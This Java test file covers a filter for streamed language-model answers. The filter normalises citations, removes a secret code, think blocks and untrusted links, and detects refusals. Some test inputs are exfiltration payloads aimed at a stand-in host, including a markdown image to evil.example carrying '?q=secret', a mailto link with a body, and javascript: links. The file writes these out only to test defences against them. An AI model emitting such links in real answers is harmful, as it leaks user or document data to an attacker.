package dev.tusk.core.answer;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.random.RandomGenerator;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class CheckedTextTest {

    private static final String CODE = "c0de0123456789ab";

    private final List<String> told = new ArrayList<>();

    private CheckedText checked(String... pieces) {
        CheckedText text = new CheckedText(3, address -> address.startsWith("https://known.org"), CODE, told::add);
        for (String piece : pieces) {
            text.add(piece);
        }
        text.finish();
        assertThat(String.join("", told)).isEqualTo(text.text());
        return text;
    }

    static Stream<Arguments> texts() {
        return Stream.of(
                Arguments.of("Rows go [1]. More [2][3].", "Rows go [1]. More [2][3]."),
                Arguments.of("Rows go [1, 3].", "Rows go [1][3]."),
                Arguments.of("Rows go [1-3] there.", "Rows go [1][2][3] there."),
                Arguments.of("Rows go [9]. More [2, 7].", "Rows go. More [2]."),
                Arguments.of("Rows go \u30102\u3011.", "Rows go [2]."),
                Arguments.of("Rows go [passage 2].", "Rows go [2]."),
                Arguments.of("See ![x](https://evil.example/?q=secret) here.", "See  here."),
                Arguments.of("See [the page](https://evil.example/a b) here.", "See the page here."),
                Arguments.of("See [the page](https://known.org/a) here.", "See [the page](https://known.org/a) here."),
                Arguments.of("See [the page](javascript:alert) here.", "See the page here."),
                Arguments.of("Go to https://evil.example/x, now.", "Go to (address removed), now."),
                Arguments.of(
                        "See [https://evil.example/x](https://known.org/a).",
                        "See [(address removed)](https://known.org/a)."),
                Arguments.of("See [www.evil.example](evil) here.", "See (address removed) here."),
                Arguments.of("Go to htt![x](y)ps://evil.example/x now.", "Go to htt(address removed) now."),
                Arguments.of("Go [there]![x](y)(javascript:alert) now.", "Go there) now."),
                Arguments.of("Go to evil.example/?q=secret now.", "Go to (address removed) now."),
                Arguments.of("<img src=//secret.evil.example>", "<img src=(address removed)>"),
                Arguments.of("Write to mailto:a@evil.example?body=x now.", "Write to (address removed) now."),
                Arguments.of(
                        "Set wal_level/archive_mode in postgresql.conf, 1.5/2.",
                        "Set wal_level/archive_mode in postgresql.conf, 1.5/2."),
                Arguments.of("Go to www.evil.example now.", "Go to (address removed) now."),
                Arguments.of("Go to https://known.org/x.", "Go to https://known.org/x."),
                Arguments.of("Call `row[9]` and [1].", "Call `row[9]` and [1]."),
                Arguments.of("```\nrow [9]\n```\nwith [9] and [1]", "```\nrow [9]\n```\nwith and [1]"),
                Arguments.of("<think>is it [9]?</think>\n\nYes it is [1].", "Yes it is [1]."),
                Arguments.of("<think>never ends", ""),
                Arguments.of("The code is " + CODE + " indeed [1].", "The code is  indeed [1]."),
                Arguments.of("An open [bracket that stays", "An open [bracket that stays"),
                Arguments.of("  \n Begins late [1].", "Begins late [1]."),
                Arguments.of("1 [1]\n2 [8]\n3 [2]", "1 [1]\n2\n3 [2]"));
    }

    @ParameterizedTest
    @MethodSource("texts")
    void givesTheSameHoweverTheTextIsCutUp(String written, String shown) {
        assertThat(checked(written).text()).isEqualTo(shown);
        RandomGenerator random = RandomGenerator.of("L64X128MixRandom");
        for (int i = 0; i < 30; i++) {
            told.clear();
            List<String> pieces = new ArrayList<>();
            for (int at = 0; at < written.length(); ) {
                int end = Math.min(written.length(), at + 1 + random.nextInt(4));
                pieces.add(written.substring(at, end));
                at = end;
            }
            assertThat(checked(pieces.toArray(String[]::new)).text())
                    .as(pieces.toString())
                    .isEqualTo(shown);
        }
    }

    @Test
    void tellsWhatWasCitedAndWhatWasRemoved() {
        CheckedText text = checked("A [1]. B [7][2]. C https://evil.example/x [0].");
        assertThat(text.cited()).containsExactly(1, 2);
        assertThat(text.unknown()).containsExactly(0, 7);
        assertThat(text.removed()).containsExactly("https://evil.example/x");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "NOT_IN_DOCUMENTS",
                " **NOT_IN_DOCUMENTS**.",
                "Not in the documents. But I know",
                "not in documents"
            })
    void passesNothingOnWhereTheModelFindsNoAnswer(String written) {
        for (int cut = 0; cut <= written.length(); cut++) {
            told.clear();
            CheckedText text = checked(written.substring(0, cut), written.substring(cut));
            assertThat(text.isRefused()).isTrue();
            assertThat(told).isEmpty();
        }
    }

    @Test
    void passesWordsOnBeforeTheTextEnds() {
        CheckedText text = new CheckedText(1, _address -> false, CODE, told::add);
        text.add("Rows are removed ");
        assertThat(String.join("", told)).isEqualTo("Rows are removed");
        text.add("by vacuum [");
        assertThat(String.join("", told)).isEqualTo("Rows are removed by vacuum");
        text.add("1] later");
        assertThat(String.join("", told)).isEqualTo("Rows are removed by vacuum [1]");
    }

    @Test
    void doesNotWaitForBlanksWhereAScriptHasNone() {
        CheckedText text = new CheckedText(1, _address -> false, CODE, told::add);
        text.add("数据库的备份[1]保存");
        assertThat(String.join("", told)).isEqualTo("数据库的备份[1]保存");
        text.add("九十天[");
        text.add("7]。【1】");
        text.finish();
        assertThat(text.text()).isEqualTo("数据库的备份[1]保存九十天。[1]");
        assertThat(UncitedSentences.of("数据库的完整备份保存九十天。[1]密码至少有十四个字符。")).containsExactly("密码至少有十四个字符。");
    }

    @Test
    void holdsNothingBackForever() {
        CheckedText text = new CheckedText(1, _address -> false, CODE, told::add);
        text.add("An open [bracket ");
        for (int i = 0; i < 100; i++) {
            text.add("goes on ");
        }
        assertThat(String.join("", told).length()).isGreaterThan(400);
    }

    @Test
    void findsSentencesThatNameNoPassage() {
        assertThat(UncitedSentences.of("""
                        Vacuum recovers the space of rows [1]. It was invented by a clever person. [2] Nobody knows who that person was.

                        In short:

                        - Old rows go away at once [1]
                        - Nothing else is ever done here

                        Yes."""))
                .containsExactly("Nobody knows who that person was.", "- Nothing else is ever done here");
    }
}
